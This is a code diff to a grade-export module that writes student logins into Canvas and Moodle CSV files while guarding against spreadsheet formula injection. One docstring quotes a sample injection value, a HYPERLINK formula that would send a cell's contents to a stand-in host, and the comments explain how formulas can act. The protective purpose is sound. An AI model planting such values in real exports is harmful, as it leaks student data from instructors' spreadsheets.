@@ -333,8 +333,31 @@ def excel_csv(rows: list[list]) -> bytes:
     as a formula in the instructor's spreadsheet."""
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\r\n")
-    w.writerows([_safe_cell(c) if isinstance(c, str) else c for c in row] for row in rows)
+    w.writerows([_safe_login(c) if isinstance(c, Login) else _safe_cell(c) if isinstance(c, str) else c
+                 for c in row] for row in rows)
     return _excel_utf8(buf.getvalue())
+
+
+class Login(str):
+    """A cell an LMS importer matches exactly to find the student (Canvas's SIS Login ID, Moodle's
+    useremail): written by excel_csv through _safe_login, not _safe_cell. Round 33: the apostrophe
+    _safe_cell puts before a login starting with + - = @ ("+zero@example.edu") reached Canvas, which
+    then found no student with that login."""
+
+
+# What a login may hold and still go out as written: letters, digits and the characters of an
+# address's dot-atom that build no formula able to act. A spreadsheet runs something only through
+# a function call "(", a DDE link "|" or "!", a reference to another sheet or file "!" "[", text in
+# quotes, or an operator between such parts ("&" "," ";" and spaces); "=a+b@x.edu" is at worst an
+# error in one cell.
+_INERT_LOGIN = re.compile(r"[\w.%+\-=@#$*/?^~]+")
+
+
+def _safe_login(value: str) -> str:
+    """A login exactly as the LMS knows it when it cannot act as a formula (_INERT_LOGIN), else made
+    text as every other cell: an address such as '=HYPERLINK("http://x/?"&A2)@x.edu' is still
+    neutralised, and a row Canvas cannot match is shown to the instructor in its import preview."""
+    return value if _INERT_LOGIN.fullmatch(value) else _safe_cell(value)
 
 
 def _excel_utf8(text: str) -> bytes:
@@ -396,8 +419,8 @@ def to_canvas_csv(rows: list[StudentRow], assignment: Assignment) -> bytes:
     shared = {name for name, n in Counter(item["name"] for item in items if item["name"]).items() if n > 1}
     out = [[*CANVAS_ID_COLUMNS, _canvas_column(assignment.title)],
            ["Points Possible", "", "", "", "", fmt(_max_points(assignment))]]
-    out += [[item["email"] if not item["name"] or item["name"] in shared else item["name"], "", "", item["email"], "",
-             _points(item)] for item in items]
+    out += [[item["email"] if not item["name"] or item["name"] in shared else item["name"], "", "", Login(item["email"]),
+             "", _points(item)] for item in items]
     return excel_csv(out)
 
 
@@ -410,7 +433,7 @@ def _split_name(name: str) -> tuple[str, str]:
 def to_moodle_csv(rows: list[StudentRow], assignment: Assignment) -> bytes:
     items = export_rows(rows, rubric_for(assignment.suite))
     out = [[*MOODLE_ID_COLUMNS, f"{assignment.title} (out of {fmt(_max_points(assignment))})"]]
-    out += [[*_split_name(item["name"]), item["email"], _points(item)] for item in items]
+    out += [[*_split_name(item["name"]), Login(item["email"]), _points(item)] for item in items]
     return excel_csv(out)
 
 
